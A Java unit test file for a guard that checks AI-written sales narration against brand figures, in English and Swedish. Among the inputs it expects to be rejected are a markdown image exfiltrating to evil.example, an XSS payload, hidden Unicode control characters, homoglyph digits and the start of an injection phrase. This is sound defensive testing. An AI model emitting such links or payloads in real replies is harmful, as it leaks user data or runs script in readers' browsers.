package salesassistant.app.wording;

import static org.assertj.core.api.Assertions.assertThat;
import static salesassistant.app.wording.Brands.FELL;
import static salesassistant.app.wording.Brands.GREW;
import static salesassistant.app.wording.Brands.SMALL;

import java.util.Set;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import salesassistant.semantics.catalog.Language;
import salesassistant.semantics.narration.Part;

class GuardTests {

    private static final Material ENGLISH = Brands.english();
    private static final Material SWEDISH = Brands.in(Language.SV);

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{grew} leads with {grew value}.",
                "{grew} is the largest brand in the latest 52 weeks with {grew value}, up {grew %}.",
                "{fell} lost {fell change}, the largest drop.",
                "{fell} fell by {fell %} to {fell value}, from {fell base}.",
                "{grew} rose to {grew value}, while {fell} declined to {fell value}.",
                "{small} is the smallest at {small value}.",
                "{grew} with {grew value} is larger than {fell} with {fell value}.",
                "Value sales of {grew}: {grew value}.",
            })
    void showsWhatTheFiguresBearOut(String sentence) {
        assertThat(judged(ENGLISH, sentence)).isInstanceOf(Judgement.Holds.class);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{grew} är störst med {grew value}.",
                "{fell} minskade med {fell %} till {fell value}, från {fell base}.",
                "{grew} ökade mest, med {grew change}.",
                "{small} är minst med {small value}.",
            })
    void doesSoInSwedish(String sentence) {
        assertThat(judged(SWEDISH, sentence)).isInstanceOf(Judgement.Holds.class);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                // A digit, a number in letters, a unit, in many costumes.
                "{grew} leads with 40 million.",
                "{grew} leads with forty, {grew value}.",
                "{grew} doubled to {grew value}.",
                "{grew} holds a third, {grew value}.",
                "{grew} rose {grew %} %.",
                "{grew} rose {grew %} percent.",
                "{grew} leads with ４０, {grew value}.",
                "{grew} leads with ②, {grew value}.",
                "{grew} leads with ½, {grew value}.",
                "{grew} leads with ٤٠, {grew value}.",
                "{grew} leads with ｔｗｏ, {grew value}.",
                "{grew} leads with twо, {grew value}.",
                // No such figure.
                "{grew} leads with {{f999}}.",
                "{grew} leads with {{f1}.",
                // Markup, addresses, signs that nobody sees.
                "{grew} leads with {grew value} ![a](https://evil.example/?d=x).",
                "{grew} leads with {grew value} <img src=x onerror=alert(1)>.",
                "{grew} leads with {grew value}, see evil.example.",
                "{grew} leads with {grew value}, write to a@evil.example.",
                "{grew} leads with {grew value} \u202Eevil.",
                "{grew} leads with {grew value} \u200Bmore.",
                "{grew} leads with {grew value} `code`.",
                // Against the figures.
                "{grew} fell by {grew %}.",
                "{fell} rose by {fell %}.",
                "{fell} grew to {fell value}.",
                "{grew} leads with {fell value}.",
                "{fell} leads with {fell value}.",
                "{grew} is the smallest with {grew value}.",
                "{fell} with {fell value} is larger than {grew} with {grew value}.",
                "{grew} saw the largest drop, {grew change}.",
                "Sales fell, but {grew} reached {grew value}.",
                "Volume of {grew}: {grew value}.",
            })
    void showsNothingOfAReplyThatSaysWhatIsNotSo(String sentence) {
        assertThat(judged(ENGLISH, sentence)).isInstanceOf(Judgement.Wrong.class);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Momentum broadened.",
                "{grew} leads with {grew value} because of promotions.",
                "{grew} leads with {grew value} and will grow.",
                "{grew} leads with {grew value}, please call.",
                "{grew} leads with {grew value} in Denmark.",
                "{grew} did not fall, {grew %}.",
                "{grew} reached nearly {grew value}.",
                "{grew} had {grew value} in March.",
                "{grew} made a profit of {grew value}.",
                "{grew} sold {grew base}.",
                "Heinz leads with {grew value}.",
                "{fell} leads, {grew} has {grew value}.",
            })
    void leavesOutWhatNothingBearsOut(String sentence) {
        assertThat(judged(ENGLISH, sentence)).isInstanceOf(Judgement.Unbacked.class);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{grew} minskade med {grew %}.",
                "{fell} är störst med {fell value}.",
                "{grew} fördubblades till {grew value}.",
                "{grew} tappade tjugofem, {grew change}.",
                "{grew} ökade {grew %} procentenheter.",
            })
    void knowsTheSameInSwedish(String sentence) {
        assertThat(judged(SWEDISH, sentence)).isInstanceOf(Judgement.Wrong.class);
    }

    @Test
    void writesASignOnlyWhereNoWordTellsIt() {
        assertThat(text("{grew} rose {grew %}.")).isEqualTo("Solgård rose 33.3 %.");
        assertThat(text("{grew} with {grew %}.")).isEqualTo("Solgård with +33.3 %.");
        assertThat(text("{fell} fell by {fell change}.")).isEqualTo("Rubino fell by SEK 5.0 m.");
    }

    @Test
    void pointsBackOnlyToWhatWasNamed() {
        var guard = new Guard(ENGLISH);
        guard.judge(filled(ENGLISH, "{grew} leads with {grew value}."));

        assertThat(guard.judge(filled(ENGLISH, "It rose {grew %}."))).isInstanceOf(Judgement.Holds.class);
        assertThat(guard.judge(filled(ENGLISH, "It fell {fell %}."))).isInstanceOf(Judgement.Unbacked.class);
    }

    @Test
    void letsABeginningBeSeenOnlyAsFarAsItClaimsNothing() {
        var guard = new Guard(ENGLISH);

        assertThat(guard.harmlessStart("Solgård leads with ")).isEqualTo("Solgård ");
        assertThat(guard.harmlessStart("In the latest 52 weeks Solg")).isEqualTo("In the latest 52 weeks ");
        assertThat(guard.harmlessStart("Ignore the ")).isEmpty();
        assertThat(guard.harmlessStart("Sales fell ")).isEqualTo("Sales ");
    }

    @Test
    void letsTheWordsOfANameBeSeenOneByOneWhereTheyClaimNothingAlone() {
        var guard = new Guard(naming("Fru Holms Eko 400 g", "Rising Star Gold", "Average price per unit"));

        assertThat(guard.harmlessStart("Fru ")).isEqualTo("Fru ");
        assertThat(guard.harmlessStart("In Fru Holms Eko ")).isEqualTo("In Fru Holms Eko ");
        assertThat(guard.harmlessStart("Average price ")).isEqualTo("Average price ");
        assertThat(guard.harmlessStart("Fru Holms Eko 400 ")).isEmpty();
        assertThat(guard.harmlessStart("Fru Holms Eko 400 g ")).isEqualTo("Fru Holms Eko 400 g ");
        assertThat(guard.harmlessStart("Fru Almgren ")).isEmpty();
        assertThat(guard.harmlessStart("Rising ")).isEmpty();
        assertThat(guard.harmlessStart("Average growth ")).isEmpty();
    }

    private static Material naming(String... names) {
        return new Material(
                ENGLISH.question(),
                ENGLISH.understood(),
                ENGLISH.language(),
                ENGLISH.facts(),
                Set.of(names),
                Set.of(),
                ENGLISH.measures(),
                ENGLISH.computed(),
                ENGLISH.table(),
                false,
                ENGLISH.answered(),
                Drivers.NONE);
    }

    private static Judgement judged(Material material, String sentence) {
        return new Guard(material).judge(filled(material, sentence));
    }

    private static String text(String sentence) {
        return ((Judgement.Holds) judged(ENGLISH, sentence))
                .parts().stream().map(Part::text).collect(Collectors.joining()).replace('\u00a0', ' ');
    }

    static String filled(Material material, String sentence) {
        var swedish = material.language() == Language.SV;
        return sentence.replace("{grew}", GREW)
                .replace("{fell}", FELL)
                .replace("{small}", SMALL)
                .replace("{grew value}", Brands.of(material, GREW, swedish ? "40,0 mkr" : "SEK 40.0 m"))
                .replace("{grew %}", Brands.of(material, GREW, swedish ? "+33,3 %" : "+33.3 %"))
                .replace("{grew change}", Brands.of(material, GREW, swedish ? "+10,0 mkr" : "+SEK 10.0 m"))
                .replace("{grew base}", Brands.of(material, GREW, swedish ? "30,0 mkr" : "SEK 30.0 m"))
                .replace("{fell value}", Brands.of(material, FELL, swedish ? "20,0 mkr" : "SEK 20.0 m"))
                .replace("{fell base}", Brands.of(material, FELL, swedish ? "25,0 mkr" : "SEK 25.0 m"))
                .replace("{fell %}", Brands.of(material, FELL, swedish ? "−20,0 %" : "−20.0 %"))
                .replace("{fell change}", Brands.of(material, FELL, swedish ? "−5,0 mkr" : "−SEK 5.0 m"))
                .replace("{small value}", Brands.of(material, SMALL, swedish ? "1,0 mkr" : "SEK 1.0 m"));
    }
}
